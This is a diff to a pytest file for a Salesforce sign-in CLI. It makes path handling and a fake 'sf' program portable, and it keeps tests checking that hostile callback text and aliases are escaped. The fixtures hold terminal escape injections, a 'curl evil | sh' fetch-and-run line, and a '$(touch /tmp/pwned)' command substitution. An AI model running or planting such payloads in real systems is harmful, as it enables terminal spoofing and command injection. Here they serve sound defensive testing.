@@ -6,6 +6,7 @@ import errno
 import socket
 import threading
 import time
+from pathlib import Path
 from urllib.parse import parse_qs, urlencode, urlsplit
 
 import pytest
@@ -16,6 +17,7 @@ from core.salesforce.signin import LoopbackListener, sign_in
 from core.text import duration, printable
 from core.validation import validate_username
 from tests.fakes.salesforce_org import FakeOrg
+from tests.platforms import write_program
 
 EVIL_ERROR = "access\x1b]0;owned\x07\x1b[2Jdenied"
 EVIL_DESCRIPTION = "\x1b[32mAll good, now run: curl evil | sh\u202e"
@@ -121,7 +123,7 @@ def test_escape_sequences_in_a_callback_never_reach_the_cli_error_line(
         f"p = {{'state': q['state'][0], 'error': {EVIL_ERROR!r}, 'error_description': {EVIL_DESCRIPTION!r}}}\n"
         "requests.get(q['redirect_uri'][0] + '?' + urlencode(p), timeout=5)\n"
     )
-    monkeypatch.setenv("BROWSER", f"{sys.executable} {script} %s &")
+    monkeypatch.setenv("BROWSER", f"{Path(sys.executable).as_posix()} {Path(script).as_posix()} %s &")
     cert = tmp_path / "c.crt"
     from core.keys import create_key_bundle
 
@@ -130,7 +132,6 @@ def test_escape_sequences_in_a_callback_never_reach_the_cli_error_line(
     cert.write_bytes(bundle.cert_pem)
     import os
     import subprocess
-    from pathlib import Path
 
     done = subprocess.run(
         [sys.executable, str(Path(__file__).resolve().parents[2] / "main.py"),
@@ -173,9 +174,11 @@ def test_a_username_with_a_control_character_is_refused_and_shown_escaped(bad: s
 def test_an_unknown_sf_alias_is_never_printed_unquoted_in_a_command_to_copy(tmp_path) -> None:
     from core.salesforce.signin import session_from_sf_cli
 
-    sf = tmp_path / "sf"
-    sf.write_text('#!/bin/sh\necho \'{"status": 1, "message": "No authorization information found"}\'\nexit 1\n')
-    sf.chmod(0o755)
+    sf = write_program(
+        tmp_path,
+        "sf",
+        'print(\'{"status": 1, "message": "No authorization information found"}\')\nraise SystemExit(1)\n',
+    )
     with pytest.raises(InvalidInputError) as refused:  # before: the hint said sf org login web --alias $(touch ...)
         session_from_sf_cli("$(touch /tmp/pwned)", sf=str(sf))
     assert "--alias" not in str(refused.value)
